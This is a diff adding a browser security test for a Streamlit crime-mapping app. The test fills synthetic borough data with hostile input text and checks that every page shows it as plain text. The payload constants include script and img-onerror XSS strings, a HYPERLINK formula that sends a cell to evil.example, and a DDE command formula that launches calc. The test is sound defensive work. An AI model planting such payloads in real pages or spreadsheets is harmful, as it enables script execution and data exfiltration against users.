@@ -1,0 +1,195 @@
+"""The running app on a store whose input text is hostile, opened page by page in headless chromium.
+
+The demo borough's files are rewritten so that markup and spreadsheet formulas sit where inputs put
+text: police.uk ``Location`` (so the named hotspot areas are named from them), the council's ASB
+categories and streets, CCTV camera, hub, walkabout and operation names (and an operation's notes),
+named places, ward names and the store's label. The store is ingested from those files, ``streamlit
+run app.py`` serves it on a free port, and every page is opened (the map's shapes hovered so their
+tooltips open) while the browser listens for dialogs. No dialog may fire, no element may carry an
+event handler or be an injected ``<script>``/``<img>``, and the markup must be on screen as text.
+"""
+
+from __future__ import annotations
+
+import html
+import json
+import re
+import shutil
+import time
+from collections.abc import Iterator
+from pathlib import Path
+
+import pandas as pd
+import pytest
+
+from _serve import HOVER_JS, streamlit_app
+from geo_csp import ingest, store
+from geo_csp.demo import DemoPaths
+
+pytestmark = [pytest.mark.browser, pytest.mark.slow]
+
+CHROMIUM = Path("/usr/bin/chromium")
+BOUNDARIES = Path(__file__).resolve().parent.parent / "boundaries"
+CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--no-first-run", "--disable-background-networking"]
+SCRIPT = "<script>alert('script')</script>"
+IMG = "<img src=x onerror=alert('img')>"
+HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"Click me")'
+CMD = "=cmd|' /C calc'!A0"
+PAYLOADS = [SCRIPT, IMG, HYPERLINK, CMD]
+#: URL path of every page of app.py (the page file's stem; the map is the default page)
+PAGES = ["", "meeting", "trends", "when", "tasking", "gaps", "walkabout", "review", "evidence", "data"]
+RENDER_TIMEOUT_MS = 120_000
+#: In every frame: elements with an event handler, script elements whose code calls alert, injected images.
+INJECTED_JS = """() => ({
+    handlers: document.querySelectorAll('[onerror], [onload]:not(body), [onmouseover], [onclick]').length,
+    scripts: [...document.querySelectorAll('script')].filter(s => s.textContent.includes("alert('")).length,
+    images: document.querySelectorAll('img[src="x"]').length,
+})"""
+
+
+def _payload(i: int) -> str:
+    return PAYLOADS[i % len(PAYLOADS)]
+
+
+def _hostile_copy(demo: DemoPaths, root: Path) -> Path:
+    """The demo borough's input files with hostile text in every text field; returns the store folder."""
+    for folder in ("police-uk", "council", "layers"):
+        shutil.copytree(demo.out_dir / folder, root / folder)
+    shutil.copy(demo.out_dir / "truth.json", root / "truth.json")
+    # police.uk Location: the busiest streets get the payloads, so named areas are named from them
+    street_files = sorted((root / "police-uk").glob("*/*-street.csv"))
+    busiest = (
+        pd.concat([pd.read_csv(p, usecols=["Location"], dtype=str) for p in street_files])["Location"]
+        .loc[lambda s: s.str.startswith("On or near")]
+        .value_counts()
+        .index[:12]
+    )
+    renamed = {loc: f"On or near {_payload(i)} {i}" for i, loc in enumerate(busiest)}
+    for path in street_files:
+        frame = pd.read_csv(path, dtype=str, keep_default_na=False)
+        frame["Location"] = frame["Location"].replace(renamed)
+        frame.to_csv(path, index=False)
+    # council ASB: categories and streets
+    council_csv = next((root / "council").glob("*.csv"))
+    mapping = next((root / "council").glob("*.toml"))
+    council = pd.read_csv(council_csv, dtype=str, keep_default_na=False)
+    categories = {"Graffiti": IMG, "Dog fouling": SCRIPT, "Fly-tipping": HYPERLINK, "Abandoned vehicle": CMD}
+    council["Type"] = council["Type"].replace(categories)
+    council["Street"] = council["Street"].where(council.index % 5 != 0, SCRIPT)
+    council.to_csv(council_csv, index=False)
+    toml = mapping.read_text(encoding="utf-8")
+    for old, new in categories.items():
+        toml = toml.replace(f'"{old}" =', f"{json.dumps(new)} =")
+    mapping.write_text(toml, encoding="utf-8")
+    # partner layers: camera, hub, walkabout and operation names
+    layers = root / "layers"
+    for name in ("cctv.csv", "hubs.csv"):
+        frame = pd.read_csv(layers / name, dtype=str, keep_default_na=False)
+        frame["name"] = [f"{_payload(i)} {i}" for i in range(len(frame))]
+        frame.to_csv(layers / name, index=False)
+    gpx = (layers / "walkabouts.gpx").read_text(encoding="utf-8")
+    walks = iter(range(10_000))
+    gpx = re.sub(
+        r"<name>SYNTHETIC walkabout: ", lambda m: f"<name>{html.escape(_payload(next(walks)))} ", gpx, count=40
+    )
+    (layers / "walkabouts.gpx").write_text(gpx, encoding="utf-8")
+    ops = json.loads((layers / "operations.geojson").read_text(encoding="utf-8"))
+    ops["name"] = SCRIPT
+    for i, feature in enumerate(ops["features"]):
+        feature["properties"]["name"] = {"Heartbeat": IMG, "Lantern": SCRIPT}.get(feature["properties"]["name"], CMD)
+        feature["properties"]["notes"] = _payload(i + 2)
+    (layers / "operations.geojson").write_text(json.dumps(ops), encoding="utf-8")
+    # named places and ward names
+    for source, target, column in (
+        ("bury_named_places.geojson", "places.geojson", "name"),
+        ("bury_wards_2022.geojson", "wards.geojson", "ward_name"),
+    ):
+        collection = json.loads((BOUNDARIES / source).read_text(encoding="utf-8"))
+        for i, feature in enumerate(collection["features"]):
+            if i % 2 == 0:
+                feature["properties"][column] = f"{_payload(i // 2)} {feature['properties'][column]}"
+        (root / target).write_text(json.dumps(collection), encoding="utf-8")
+    store_dir = root / "store"
+    ingest.ingest_paths([root / "police-uk"], store_dir=store_dir)
+    ingest.ingest_paths([council_csv], store_dir=store_dir, mapping=mapping)
+    store.write_store_config(
+        store_dir,
+        {
+            "borough": "Bury",
+            "synthetic": True,
+            "label": f"SYNTHETIC hostile-text borough {IMG}",
+            "wards": "../wards.geojson",
+            "lsoas": None,
+            "named_places": "../places.geojson",
+            "areas": None,
+            "comparators": [],
+            "layers_dir": "../layers",
+            "truth": "../truth.json",
+        },
+    )
+    return store_dir
+
+
+@pytest.fixture(scope="session")
+def hostile_app(tmp_path_factory: pytest.TempPathFactory, demo_borough: DemoPaths) -> Iterator[str]:
+    if not CHROMIUM.exists():
+        pytest.skip(f"{CHROMIUM} is absent (install Debian's chromium package to run browser tests)")
+    pytest.importorskip("playwright.sync_api")
+    root = tmp_path_factory.mktemp("hostile-app")
+    store_dir = _hostile_copy(demo_borough, root)
+    with streamlit_app(store_dir=store_dir, demo_dir=root, log_path=root / "streamlit.log") as url:
+        yield url
+
+
+BUSY = '[data-testid="stStatusWidget"], [data-testid="stSpinner"], [data-testid="stSkeleton"]'
+
+
+def _wait_idle(page: object) -> None:
+    """Wait until the script has finished (no running status, spinner or placeholder) and the page's text
+    stays the same for 6 s (a page may compute silently for a few seconds), so component iframes (the
+    map) have drawn; bounded by RENDER_TIMEOUT_MS."""
+    deadline = time.monotonic() + RENDER_TIMEOUT_MS / 1000
+    seen: list[str | None] = []
+    while time.monotonic() < deadline:
+        page.wait_for_timeout(2000)  # type: ignore[attr-defined]
+        seen.append(page.evaluate(f"() => document.querySelector('{BUSY}') ? null : document.body.innerText"))  # type: ignore[attr-defined]
+        if len(seen) >= 4 and seen[-1] is not None and len(set(seen[-4:])) == 1:
+            return
+    pytest.fail(f"{page.url} still running after {RENDER_TIMEOUT_MS / 1000:.0f} s")  # type: ignore[attr-defined]
+
+
+def test_every_page_shows_hostile_input_text_as_text(hostile_app: str) -> None:
+    from playwright.sync_api import sync_playwright
+
+    dialogs: list[str] = []
+    found: dict[str, dict[str, int]] = {}
+    exceptions: dict[str, list[str]] = {}
+    shown = ""
+    with sync_playwright() as pw:
+        browser = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS, headless=True)
+        try:
+            page = browser.new_context(viewport={"width": 1400, "height": 1100}).new_page()
+            page.set_default_timeout(RENDER_TIMEOUT_MS)
+            page.on("dialog", lambda d: (dialogs.append(f"{page.url}: {d.message}"), d.dismiss()))
+            for path in PAGES:
+                page.goto(f"{hostile_app}/{path}")
+                page.wait_for_selector('[data-testid="stSidebar"]')
+                _wait_idle(page)
+                exceptions[path or "map"] = page.locator('[data-testid="stException"]').all_inner_texts()
+                for frame in page.frames:
+                    tips = frame.evaluate(HOVER_JS)
+                    page.wait_for_timeout(300)  # an onerror handler fires once a broken image fails to load
+                    counts = frame.evaluate(INJECTED_JS)
+                    if any(counts.values()):
+                        found[f"{path or 'map'} {frame.url[:60]}"] = counts
+                    shown += "\n" + frame.evaluate("() => document.body ? document.body.innerText : ''") + tips
+        finally:
+            browser.close()
+    (Path(__file__).parent / "_artifacts").mkdir(exist_ok=True)
+    (Path(__file__).parent / "_artifacts" / "hostile_app_text.txt").write_text(shown, encoding="utf-8")
+    assert dialogs == [], f"the app ran script from the data: {dialogs}"
+    assert found == {}, f"injected elements in the DOM: {found}"
+    assert not any(exceptions.values()), exceptions
+    for payload in (SCRIPT, IMG):  # shown to the reader as text, not dropped or double-escaped
+        assert payload in shown, f"{payload!r} is not on any page as text"
+    assert "&lt;" not in shown and "&amp;lt;" not in shown, "markup escaped twice shows entities to the reader"
